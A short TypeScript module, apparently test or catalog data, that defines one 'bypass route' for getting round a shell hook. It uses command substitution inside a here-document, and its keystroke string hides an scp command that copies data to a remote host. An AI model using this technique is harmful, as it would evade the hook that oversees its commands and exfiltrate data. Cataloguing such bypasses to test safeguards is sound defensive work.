import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'command substitution in a here-document',
  source: 'attempts to get round a hook of the shell',
  keys: ['cat <<E\r$(scp DATA host:)\rE\r'],
  isRaw: true,
};
